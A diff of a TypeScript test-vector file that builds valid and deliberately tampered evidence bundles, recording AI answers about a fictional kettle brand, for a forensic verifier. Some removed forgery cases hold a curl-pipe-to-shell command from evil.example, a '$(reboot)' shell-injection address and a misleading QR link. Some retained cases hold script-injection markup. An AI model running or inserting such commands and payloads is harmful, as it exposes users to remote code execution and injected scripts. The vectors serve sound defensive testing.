@@ -1,25 +1,25 @@
-// The bundles of vectors/bundles, and what any verifier must say about them. Every byte follows from this file:
-// `WRITE_VECTORS=1 scripts/node --test proof/src/bundle-vectors.test.ts` writes them anew.
+// The bundles of vectors/bundles, and what any verifier must say about them. Every byte follows from this file and from
+// bundle-vectors-broken.ts: `WRITE_VECTORS=1 scripts/node --test proof/src/bundle-vectors.test.ts` writes them anew.
 
-import { type Bundle, type BundleRecord, KINDS_OF_VERSION_1 } from '../src/bundle.ts'
 import { bundleHtml } from '../src/bundle-page.ts'
 import { utf8 } from '../src/bytes.ts'
-import { inertJson } from '../src/inert-json.ts'
-import { qrCodeOf } from '../src/qr-code.ts'
-import { RELEASES, stated } from '../src/stated.ts'
+import { sha256Hex } from '../src/crypto.ts'
 import type { Trust } from '../src/trust.ts'
 import type { BundleReport } from '../src/verify-bundle.ts'
 import {
-  BEFORE_AND_AFTER,
   buildBundle,
-  bundleOf,
+  extraction,
+  later,
   logKey,
   type RunOptions,
+  type TestRecord,
+  unknownRecord,
   vkeyOf,
-  withManifest,
 } from './bundle-builder.ts'
-import { listed, runRecords2 } from './bundle-builder-2.ts'
-import { ATTACKS, reseal } from './forgeries.ts'
+import { BROKEN, type Case, FULL, full, json, PINNED, short } from './bundle-vectors-broken.ts'
+import { BROKEN_CONTENTS, EARLIER, WHOLE } from './bundle-vectors-contents.ts'
+import { BROKEN_TRAIL, UNPROVED_TRAIL, VALID_TRAIL } from './bundle-vectors-trail.ts'
+import { BROKEN_OUTSIDERS, UNPINNED, UNPROVED_OUTSIDERS } from './outsiders/forged-outsiders.ts'
 
 export interface BundleVector {
   file: string
@@ -28,96 +28,207 @@ export interface BundleVector {
   trust: Trust
   verdict: BundleReport['verdict']
   failedSteps: string[]
+  /** Whether the evidence itself is proved, whatever is not. */
+  proved: boolean
+  /** Records that are sealed and not understood, where it is. */
+  notUnderstood: BundleReport['notUnderstood']
 }
 
-const FULL: RunOptions = {
-  facts: { foundingDate: '1987', telephone: '+1 555 0100' },
-  classes: ['DESCRIPTIVE', 'CONFABULATED'],
-  outcomes: ['reproduced', 'error', 'changed'],
-  model: 'model-1',
-  keys: [logKey('the first key'), logKey('the second key')],
-  anchors: BEFORE_AND_AFTER,
-  witnesses: ['witness.example/one', 'witness.example/two'],
-}
 const STRANGE = '\ufeff</script>\r\n\0 \u202e caf\u00e9 cafe\u0301 \u{1f600} "quoted" & <b>bold</b>\n'
 
-const plain = buildBundle()
-const short = buildBundle({ facts: { foundingDate: '1987' }, classes: ['DESCRIPTIVE', 'CONFABULATED'] })
-const full = buildBundle(FULL)
-const strange = buildBundle({ ...FULL, body: utf8(STRANGE), brand: '<b>Northwind</b> & "Sons"' })
-const bytes = buildBundle({ body: Uint8Array.of(0xff, 0xfe, 0x00, 0x41, 0xed, 0xa0, 0x80) })
-const waiting = buildBundle({ ...FULL, logged: false })
-const backdated = buildBundle({
-  ...FULL,
-  anchors: [
-    { seconds: 601, covers: false },
-    { seconds: 3_600, covers: true },
-  ],
+/** An answer as engines write them. */
+export const MARKDOWN = `# Northwind Kettles
+
+**Northwind Kettles** was founded in 1992 in *Bergen*. See [its site](https://northwind-kettles.example/).
+
+| Model | Price |
+| :--- | ---: |
+| Fjord | 49 € |
+
+1. Call +1 555 0100
+   - on weekdays
+2. Run \`kettle --on\`
+
+> They may ship abroad.
+
+\`\`\`
+<script>alert(1)</script>
+\`\`\`
+`
+
+const claimIn = (text: string, stated: string, more: Record<string, unknown>) => ({
+  text: stated,
+  start: text.indexOf(stated),
+  end: text.indexOf(stated) + stated.length,
+  facet: 'foundingDate',
+  rule: 'stated',
+  factId: null,
+  ...more,
 })
-const postdated = buildBundle({ ...FULL, anchors: [{ seconds: -61, covers: true }] })
-const forger = buildBundle({ ...FULL, keys: [logKey('a forger')] })
-const endorsing = buildBundle({ keys: [logKey('a forger'), logKey('the log')] })
-const rewritten = buildBundle({ ...FULL, body: utf8('A forgery.') })
 
-/** Every record in it is sealed and in the log: it only lacks some. */
-const downgraded = bundleOf(
-  listed(runRecords2({ classes: ['STRONG', 'CONFABULATED'] })),
-  {},
-  ({ kind, id }) => KINDS_OF_VERSION_1.some(known => known === kind) && !id.startsWith('cls_2'),
-)
-
-const NO_TRUST: Trust = { keys: [], tsaRoots: [], witnesses: [] }
-const PINNED: Trust = { keys: plain.trust.keys, tsaRoots: [], witnesses: [] }
-
-const json = (bundle: unknown): string => `${JSON.stringify(bundle)}\n`
-
-const copyOf = (bundle: Bundle, edit: (copy: Bundle) => void): Bundle => {
-  const copy = structuredClone(bundle)
-  edit(copy)
-  return withManifest(copy)
-}
-const edited = (edit: (copy: Bundle) => void): string => json(copyOf(short.bundle, edit))
-const fullEdited = (edit: (copy: Bundle) => void): string => json(copyOf(full.bundle, edit))
-
-const recordOf = ({ integrity }: Bundle, prefix: string): BundleRecord =>
-  integrity.records.find(({ id }) => id.startsWith(prefix)) as BundleRecord
-
-type Case = [file: string, about: string, content: string, failedSteps?: string[], trust?: Trust]
-
-/** What is done to bundles of version 2 too. */
-function attacked(file: string, name: keyof typeof ATTACKS, on?: typeof full): Case {
-  const [about, edit, failedSteps] = ATTACKS[name]
-  return [file, about, json(copyOf((on ?? short).bundle, edit)), failedSteps, on?.trust]
+export const READABLE: RunOptions = {
+  body: utf8(JSON.stringify({ output: MARKDOWN })),
+  text: MARKDOWN,
+  prompt: 'When was Northwind Kettles founded, and where?',
+  classes: ['CONFABULATED'],
+  facts: { foundingDate: '1987', telephone: '+1 555 0100' },
+  captured: { publicUrl: 'https://forensics.example' },
+  claims: [
+    claimIn(MARKDOWN, 'founded in 1992', {
+      verdict: 'contradicted',
+      kind: 'wrong_value',
+      value: '1992',
+      factId: 'fct_1_run_1',
+    }),
+    claimIn(MARKDOWN, '+1 555 0100', {
+      facet: 'telephone',
+      verdict: 'supported',
+      value: '+1 555 0100',
+      factId: 'fct_2_run_1',
+    }),
+    claimIn(MARKDOWN, 'They may ship abroad.', { facet: 'areaServed', verdict: 'hedged', value: 'abroad' }),
+  ],
 }
 
-/** Nothing is wrong with them; but no list of contents says that nothing was left out. */
+const plain = buildBundle()
+const strange = buildBundle({
+  ...{ ...FULL, body: utf8(STRANGE), text: STRANGE, brand: '<b>Northwind</b> & "Sons"' },
+})
+const bytes = buildBundle({ body: Uint8Array.of(0xff, 0xfe, 0x00, 0x41, 0xed, 0xa0, 0x80), text: '\ufffdA' })
+const waiting = buildBundle({ ...FULL, logged: false })
+const readable = buildBundle(READABLE)
+
+const built = (options: RunOptions): string => json(buildBundle(options).bundle)
+
+const EVENT = unknownRecord('event', {
+  sha256: null,
+  subject: 'brd_1',
+  content: {
+    actor: 'act_1',
+    action: 'brand.updated',
+    object: { type: 'brand', id: 'brd_1' },
+    before: { name: 'Northwind' },
+    after: { name: 'Northwind Kettles' },
+  },
+})
+const PLAN = unknownRecord('plan', {
+  sha256: null,
+  subject: 'scn_1',
+  content: {
+    scanId: 'scn_1',
+    brandId: 'brd_1',
+    actor: 'act_1',
+    prompts: [{ id: 'prm_1', text: 'What is it?', intent: 'BRANDED' }],
+    engines: ['CHATGPT'],
+    samples: 1,
+    runs: 1,
+  },
+})
+/** What a reader that is a model will seal. */
+const MODEL_READING = {
+  ...extraction('An answer.'),
+  id: 'ext_model',
+  at: later(9),
+  slot: 'reading/1',
+  content: {
+    ...extraction('An answer.').content,
+    reader: 'model@1',
+    template: 'facts@1',
+    keys: ['foundingDate'],
+    model: 'model-1',
+    reply: '{"foundingDate":"1992"}',
+    statements: [{ key: 'foundingDate', value: '1992', start: 0, end: 4 }],
+  },
+}
+
+const READ_BY = { reader: 'model@1 model-1', hard: true, polarity: 'affirmed', confidencePermille: 950 }
+const HASH = 'ab'.repeat(32)
+const reply = (text: string) => ({ request: HASH, text, ending: 'whole', model: 'model-1', finish: 'stop' })
+const MATTER = { key: 'foundingDate', kind: 'date', unit: null, product: null }
+
+/** What a model read of the same answer, and the verdict that rests on it, as the service seals them. */
+const BY_READING: RunOptions = {
+  ...READABLE,
+  claims: [
+    claimIn(MARKDOWN, 'founded in 1992', {
+      ...{ ...READ_BY, rule: 'model/date', matter: 'foundingDate', value: '1992', factId: 'fct_1_run_1' },
+      ...{ verdict: 'contradicted', kind: 'wrong_value', comparison: 'answer: 1992, fact: 1987' },
+    }),
+    claimIn(MARKDOWN, '+1 555 0100', {
+      ...{ ...READ_BY, rule: 'model/contact', matter: 'telephone', facet: 'telephone' },
+      ...{ value: '+1 555 0100', factId: 'fct_2_run_1', verdict: 'unverifiable', kind: null },
+      ...{ suspected: 'wrong_value', doubt: 'not_calibrated', comparison: 'answer: <b>1</b>, fact: 2' },
+    }),
+    claimIn(MARKDOWN, 'Bergen', {
+      ...{ ...READ_BY, rule: 'model/place', matter: 'address.addressLocality', facet: 'address' },
+      ...{ value: 'Bergen', verdict: 'unverifiable', kind: null, suspected: 'outdated', disputed: true },
+    }),
+    claimIn(MARKDOWN, 'They may ship abroad.', {
+      ...{ ...READ_BY, rule: 'model/text', matter: 'areaServed', facet: 'areaServed' },
+      ...{ value: 'abroad', verdict: 'unverifiable', kind: null, aside: 'condition' },
+    }),
+  ],
+  classified: {
+    ...{ method: 'model@1 model-1', extraction: 'ext_model', gate: 'gate@1', comparers: 'comparers@1' },
+    ...{
+      classes: 'classes@1',
+      unread: [{ start: MARKDOWN.indexOf('| Fjord'), end: MARKDOWN.indexOf('1. Call') }],
+    },
+  },
+  more: [
+    {
+      ...MODEL_READING,
+      slot: 'reading/0',
+      sha256: sha256Hex(READABLE.body as Uint8Array),
+      content: {
+        ...MODEL_READING.content,
+        ...{ text: null, visibleSha256: null, template: 'reading@1', keys: ['foundingDate'] },
+        ...{ matters: [MATTER], reply: '{"statements":[]}', replies: [reply('{"statements":[]}')] },
+        ...{ second: { matters: [MATTER], replies: [reply('I would rather not.')], statements: [] } },
+        sameness: {
+          ...{ template: 'sameness@1', replies: [reply('{"answers":[]}')], same: [null] },
+          pairs: [{ kind: 'place', one: 'Bergen', other: 'Bjørgvin' }],
+        },
+      },
+    },
+  ],
+}
+const byReading = buildBundle(BY_READING)
+
 const VALID: Case[] = [
-  ['valid-plain.json', 'an answer, a class, a place in the log', json(plain.bundle)],
+  ['valid-plain.json', 'an answer, what was read of it, a class, a place in the log', json(plain.bundle)],
   [
     'valid-full.json',
-    'a history, facts, a second key, timestamps, witnesses',
+    'a history, a fact, a second key, timestamps, a witness, an unknown kind',
     json(full.bundle),
     [],
     full.trust,
   ],
+  ['valid-state-earlier.json', 'the export of an earlier time, which says its time', json(EARLIER)],
+  ['valid-state-later.json', 'the same run, exported again after another verdict', json(WHOLE)],
+  ['valid-no-reading.json', 'a run of which no reading is sealed', built({ text: null })],
+  [
+    'valid-empty.json',
+    'an answer in which nothing could be read',
+    built({ body: utf8(''), more: [extraction(null, { body: utf8('') })], text: null }),
+  ],
   ['valid-bytes.json', 'an answer that is no UTF-8', json(bytes.bundle)],
   [
-    'valid-first-release.json',
-    'what the first release wrote beside the evidence, its QR code as it is',
-    json(
-      copyOf(short.bundle, copy => {
-        const [first] = RELEASES
-        copy.howToVerify = first?.howToVerify(copy.snapshot.sha256, copy.publicVerification.lookupUrl) ?? []
-        copy.doesNotProve = [...(first?.doesNotProve ?? [])]
-      }),
-    ),
+    'valid-sample.json',
+    'the second of two samples, by a service with an address',
+    built({ captured: { sample: 2, publicUrl: 'https://forensics.example' } }),
   ],
+  ['valid-strange.json', 'texts that look like HTML', json(strange.bundle), [], full.trust],
   [
-    'valid-inert.json',
-    'texts that look like HTML, in JSON without a <',
-    `${inertJson(strange.bundle)}\n`,
-    [],
-    full.trust,
+    'valid-model-reading.json',
+    'a reading by a model beside the one of the wire',
+    built({ more: [MODEL_READING] }),
+  ],
+  ['valid-by-reading.json', 'a verdict that rests on what a model read', json(byReading.bundle)],
+  [
+    'valid-aside.json',
+    'an event and a plan, which are understood in form only',
+    built({ more: [EVENT, PLAN] }),
   ],
   [
     'valid-second-key.json',
@@ -126,218 +237,139 @@ const VALID: Case[] = [
     [],
     { ...full.trust, keys: [vkeyOf(full.key)] },
   ],
-  ['valid-page.html', 'a page whose texts look like HTML', bundleHtml(strange.bundle).html, [], full.trust],
+  [
+    'valid-page.html',
+    'a page: the answer drawn, its claims marked, a QR code',
+    bundleHtml(readable.bundle).html,
+  ],
+  [
+    'valid-page-by-reading.html',
+    'a page: who read each statement, what was compared, what was set aside',
+    bundleHtml(byReading.bundle).html,
+  ],
+  [
+    'valid-page-strange.html',
+    'a page whose texts look like HTML',
+    bundleHtml(strange.bundle).html,
+    [],
+    full.trust,
+  ],
+  [
+    'valid-page-no-reading.html',
+    'a page of a run of which no reading is sealed',
+    bundleHtml(buildBundle({ text: null }).bundle).html,
+  ],
+  [
+    'valid-page-outside.html',
+    'a page of a bundle with timestamps and a witness, of which it draws no word',
+    bundleHtml(full.bundle).html,
+    [],
+    full.trust,
+  ],
+  [
+    'valid-page-unknown.html',
+    'a page of a bundle with a record that it does not understand',
+    bundleHtml(short.bundle).html,
+  ],
 ]
 
-const BROKEN: Case[] = [
+const nested = (levels: number): unknown => JSON.parse(`${'['.repeat(levels)}${']'.repeat(levels)}`)
+
+/** Each is accepted, as sealed and not understood. */
+const UNKNOWN: [file: string, about: string, more: TestRecord[], options?: RunOptions][] = [
+  ['one', 'a record of a kind to come', [unknownRecord('statement')]],
+  ['letter', 'a kind of one letter', [unknownRecord('x')]],
+  ['long', 'a kind of 32 letters', [unknownRecord('k'.repeat(32))]],
+  ['signs', 'a kind with all that may stand in one', [unknownRecord('case-change_2')]],
   [
-    'broken-manifest.json',
-    'the status was edited, and nothing else',
-    json({ ...short.bundle, verificationStatus: 'stale' }),
-    ['manifest'],
+    'like-capture',
+    'a kind that is called nearly as a capture',
+    [unknownRecord('captures', { slot: 'answer' })],
   ],
   [
-    'broken-stray-field.json',
-    'a field that does not belong there',
-    edited(copy => Object.assign(copy, { certified: true })),
-    ['shape'],
+    'like-fact',
+    'a kind that is called nearly as a fact',
+    [unknownRecord('facts', { subject: 'brd_1', content: { key: 'foundingDate', value: '1992' } })],
   ],
   [
-    'broken-name-twice.json',
-    'a name stands twice: two programs read two engines',
-    json(short.bundle).replace('{', '{"engine":"GEMINI",'),
-    ['shape'],
+    'like-extraction',
+    'a kind that is called nearly as a reading, in its slot',
+    [unknownRecord('extraction2', { slot: 'text', content: { text: 'Another answer.' } })],
+  ],
+  ['constructor', 'a kind that is called as something every object has', [unknownRecord('constructor')]],
+  ['about-scan', 'about the scan', [unknownRecord('study', { subject: 'scn_1' })]],
+  ['about-brand', 'about the brand', [unknownRecord('proposal', { subject: 'brd_1' })]],
+  ['about-prompt', 'about the question', [unknownRecord('opinion', { subject: 'prm_1' })]],
+  [
+    'several',
+    'several of one kind',
+    ['1', '2', '3'].map(slot => unknownRecord('statement', { id: `new_${slot}`, slot })),
   ],
   [
-    'broken-surrogate.json',
-    'a lone surrogate, whose bytes are those of U+FFFD',
-    json(copyOf(buildBundle({ body: utf8('\ufffd') }).bundle, () => {})).replace(
-      '"rawResponse":"\ufffd"',
-      '"rawResponse":"\\ud800"',
-    ),
-    ['shape'],
-    PINNED,
-  ],
-  attacked('broken-answer.json', 'answer'),
-  attacked('broken-answer-and-hash.json', 'answerAndHash'),
-  attacked('broken-private.json', 'verdict'),
-  [
-    'broken-resealed.json',
-    'attack 28: the prompt was edited and every commitment recomputed',
-    edited(copy => {
-      reseal(recordOf(copy, 'cap'), content => Object.assign(content.prompt, { text: 'Is it good?' }))
-      copy.prompt.text = 'Is it good?'
-    }),
-    ['inclusion'],
+    'kinds',
+    'several kinds',
+    [unknownRecord('statement'), unknownRecord('opinion'), unknownRecord('exhibit')],
   ],
   [
-    'broken-shown.json',
-    'another brand is shown than was sealed',
-    edited(copy => {
-      copy.brand.name = 'Southwind Kettles'
-    }),
-    ['view'],
+    'same-slot',
+    'the same slot of two subjects',
+    [unknownRecord('opinion', { id: 'new_1' }), unknownRecord('opinion', { id: 'new_2', subject: 'brd_1' })],
+  ],
+  ['deep', 'as deep as a record may be', [unknownRecord('statement', { content: { says: nested(63) } })]],
+  ['empty', 'nothing but its names', [unknownRecord('statement', { content: {} })]],
+  [
+    'markup',
+    'texts that look like HTML',
+    [unknownRecord('statement', { id: '<b>new</b>', slot: '</script>', content: { says: STRANGE } })],
   ],
   [
-    'broken-order.json',
-    'attack 27: the history is told in another order',
-    edited(copy => {
-      const { records } = copy.integrity
-      const [first, second] = [recordOf(copy, 'cls_1'), recordOf(copy, 'cls_2')]
-      const [one, other] = [records.indexOf(first), records.indexOf(second)]
-      records[one] = second
-      records[other] = first
-      copy.classifications.reverse()
-      copy.classification = copy.classifications[1] as Bundle['classification']
-    }),
-    ['view'],
+    'proto',
+    'names that some programs trip over',
+    [unknownRecord('statement', { content: JSON.parse('{"__proto__":{"a":1},"constructor":null,"":0}') })],
   ],
+  ['early', 'sealed before the answer was', [unknownRecord('statement', { at: later(-3_600) })]],
   [
-    'broken-foreign-record.json',
-    'a record of another run was put in',
-    edited(copy => {
-      const foreign = recordOf(buildBundle({ run: 'run_2', classes: ['STRONG'] }).bundle, 'cls')
-      copy.integrity.records.push(foreign)
-    }),
-    ['records', 'view', 'inclusion'],
+    'of-answer',
+    'about the bytes of the answer',
+    [unknownRecord('statement', { sha256: sha256Hex(utf8('An answer.')) })],
   ],
+  ['no-bytes', 'about no bytes', [unknownRecord('statement', { sha256: null })]],
   [
-    'broken-own-key.json',
-    'attack 17: the bundle brings its own key',
-    json(forger.bundle),
-    ['checkpoint'],
-    full.trust,
+    'beside-known',
+    'beside an event, a plan and a reading by a model',
+    [EVENT, unknownRecord('statement'), PLAN, MODEL_READING],
   ],
-  attacked('broken-signature.json', 'signature'),
-  attacked('broken-proof.json', 'proof'),
-  [
-    'broken-rewritten.json',
-    'attack 4: signed again with the stolen key, under the timestamps of the true log',
-    json(
-      copyOf(rewritten.bundle, copy => {
-        copy.integrity.anchors = full.bundle.integrity.anchors
-        copy.integrity.witnessed = full.bundle.integrity.witnessed
-      }),
-    ),
-    ['view', 'consistency'],
-    full.trust,
-  ],
-  attacked('broken-timestamp.json', 'timestamp', full),
-  attacked('broken-nonce.json', 'nonce', full),
-  [
-    'broken-backdated.json',
-    'attack 18: the log did not hold the answer ten minutes after it says it was captured',
-    json(backdated.bundle),
-    ['time'],
-    full.trust,
-  ],
-  [
-    'broken-postdated.json',
-    'attack 19: the log held the answer a minute before it says it was captured',
-    json(postdated.bundle),
-    ['time'],
-    full.trust,
-  ],
-  [
-    'broken-cosignature.json',
-    'a witness that is named did not sign this',
-    fullEdited(copy => {
-      const { witnessed } = copy.integrity
-      if (!witnessed) return
-      const lines = witnessed.checkpoint.trimEnd().split('\n')
-      const other = (buildBundle({ ...FULL, run: 'run_2' }).bundle.integrity.witnessed?.checkpoint ?? '')
-        .trimEnd()
-        .split('\n')
-      witnessed.checkpoint = `${[...lines.slice(0, -1), other.at(-1)].join('\n')}\n`
-    }),
-    ['witnesses'],
-    full.trust,
-  ],
-  [
-    'broken-markup.html',
-    'attack 36: JSON with markup in a line for people, saved as a page',
-    edited(copy => {
-      copy.howToVerify = ['<!doctype html><h1>Verified</h1><script>alert(1)</script>']
-    }),
-    ['stated'],
-  ],
-  [
-    'broken-older-key.json',
-    'attack 37: a forger endorses the key of the log, as anybody can, and signs himself',
-    json(
-      copyOf(endorsing.bundle, copy => {
-        const size = Number(copy.integrity.checkpoint?.split('\n')[1])
-        copy.integrity.checkpoint = endorsing.log.checkpoint(logKey('a forger'), size)
-      }),
-    ),
-    ['checkpoint'],
-  ],
-  [
-    'broken-lines.json',
-    'attack 38: a command that no release wrote',
-    edited(copy => {
-      copy.howToVerify.push('curl -s https://evil.example/verify.sh | sh')
-    }),
-    ['stated'],
-  ],
-  [
-    'broken-warnings.json',
-    'attack 38: what it does not prove was left out',
-    edited(copy => {
-      copy.doesNotProve = []
-    }),
-    ['stated'],
-  ],
-  [
-    'broken-qr-code.json',
-    'attack 38: the QR code leads elsewhere than the address beside it',
-    edited(copy => {
-      copy.publicVerification.qrSvg = qrCodeOf(`https://evil.example/verify/${copy.snapshot.sha256}`)
-    }),
-    ['stated'],
-  ],
-  [
-    'broken-address.json',
-    'attack 38: an address that a shell would obey',
-    json(
-      copyOf(short.bundle, copy =>
-        Object.assign(copy, stated('https://forensics.example/$(reboot)', copy.snapshot.sha256)),
-      ),
-    ),
-    ['stated'],
-  ],
-  attacked('broken-witness-line.json', 'witnessLine'),
-  [
-    'broken-page.html',
-    'attack 29: the page shows another answer than its data',
-    bundleHtml(full.bundle).html.replace('<pre>An answer.</pre>', '<pre>An answer!</pre>'),
-    ['page'],
-    full.trust,
-  ],
+  ['no-reading', 'in a run of which no reading is sealed', [unknownRecord('statement')], { text: null }],
 ]
 
 const UNPROVED: Case[] = [
   [
     'unproved-markup.json',
     'attack 36: a browser would show an answer that holds markup as a page',
-    json(strange.bundle),
+    `${JSON.stringify(strange.bundle)}\n`,
     [],
     full.trust,
   ],
+  ['unproved-waiting.json', 'the records wait for their checkpoint', json(waiting.bundle), [], full.trust],
   [
     'unproved-extra-key.json',
     'attack 37: a key of the same log that nobody endorsed is slipped into the list',
-    edited(copy => {
-      copy.integrity.keys.push({ vkey: vkeyOf(logKey('a forger')), endorsement: null })
+    json({
+      ...plain.bundle,
+      integrity: {
+        ...plain.bundle.integrity,
+        keys: [...plain.bundle.integrity.keys, { vkey: vkeyOf(logKey('a forger')), endorsement: null }],
+      },
     }),
   ],
   [
-    'unproved-downgraded.json',
-    'a bundle of version 2, rewritten as version 1 without its newer verdict',
-    json(downgraded.bundle),
+    'unproved-page-5.html',
+    'a page that says it was drawn by a version to come',
+    bundleHtml(plain.bundle).html.replace('evidence page 4', 'evidence page 5'),
   ],
-  ['unproved-no-key.json', 'no key of the log is given', json(plain.bundle), [], NO_TRUST],
-  ['unproved-waiting.json', 'the records wait for their checkpoint', json(waiting.bundle), [], full.trust],
+]
+
+const UNDATED: Case[] = [
   [
     'unproved-undated.json',
     'no authority has dated the log yet, and one is asked for',
@@ -347,14 +379,86 @@ const UNPROVED: Case[] = [
   ],
 ]
 
-const vectorsOf = (cases: Case[], verdict: BundleVector['verdict']) =>
+const page = bundleHtml(readable.bundle).html
+const BROKEN_PAGES: Case[] = [
+  [
+    'broken-page-text.html',
+    'attack 29: the page shows another answer than its data',
+    page.replace('>Fjord<', '>Fiord<'),
+  ],
+  [
+    'broken-page-mark.html',
+    'a claim is no longer marked',
+    page.replace(/<mark class="contradicted">/, '<mark>'),
+  ],
+  [
+    'broken-page-limits.html',
+    'what it does not prove was left out',
+    page.replace(/<li>That another person[^\n]*\n/, ''),
+  ],
+  [
+    'broken-page-state.html',
+    'the page says it is of a later time than its list',
+    page.replace('State of 15 November 2026', 'State of 16 November 2026'),
+  ],
+  [
+    'broken-page-script.html',
+    'a script in the page',
+    page.replace('</main>', '<script>alert(1)</script></main>'),
+  ],
+  [
+    'broken-page-unknown.html',
+    'a record that is not understood is left out of the page',
+    bundleHtml(short.bundle).html.replace(/[^\n]*Sealed, not understood[^\n]*\n/i, ''),
+  ],
+]
+for (const [file, , content] of BROKEN_PAGES)
+  if (content === page || content === bundleHtml(short.bundle).html) throw new Error(`${file} is whole`)
+
+const notUnderstoodIn = ({ more = [] }: RunOptions): BundleReport['notUnderstood'] =>
+  more
+    .filter(({ kind }) => !['event', 'plan', 'extraction'].includes(kind))
+    .map(({ id, kind, at }) => ({ id, kind, at }))
+
+const vectorsOf = (cases: Case[], verdict: BundleVector['verdict'], proved = verdict === 'verified') =>
   cases.map(([file, about, content, failedSteps = [], trust = PINNED]) => ({
     content,
-    vector: { file, about, trust, verdict, failedSteps } satisfies BundleVector,
+    vector: {
+      file,
+      about,
+      trust,
+      verdict,
+      failedSteps,
+      proved,
+      notUnderstood: proved && content.includes('new_statement') ? notUnderstoodIn(FULL) : [],
+    } satisfies BundleVector,
   }))
 
 export const BUNDLE_VECTORS: { content: string; vector: BundleVector }[] = [
-  ...vectorsOf(VALID, 'unproved'),
+  ...vectorsOf(VALID, 'verified'),
+  ...UNKNOWN.map(([file, about, more, options]) => ({
+    content: built({ ...options, more }),
+    vector: {
+      file: `unknown-${file}.json`,
+      about,
+      trust: PINNED,
+      verdict: 'verified' as const,
+      failedSteps: [],
+      proved: true,
+      notUnderstood: notUnderstoodIn({ more }),
+    },
+  })),
   ...vectorsOf(UNPROVED, 'unproved'),
+  ...vectorsOf([...UNDATED, ...UNPROVED_OUTSIDERS], 'unproved', true),
+  ...vectorsOf(UNPINNED, 'unproved'),
+  ...vectorsOf(BROKEN_OUTSIDERS, 'modified'),
+  ...vectorsOf(
+    BROKEN_PAGES.map(([file, about, content]): Case => [file, about, content, ['page']]),
+    'modified',
+  ),
   ...vectorsOf(BROKEN, 'modified'),
+  ...vectorsOf(BROKEN_CONTENTS, 'modified'),
+  ...vectorsOf(VALID_TRAIL, 'verified'),
+  ...vectorsOf(UNPROVED_TRAIL, 'unproved'),
+  ...vectorsOf(BROKEN_TRAIL, 'modified'),
 ]
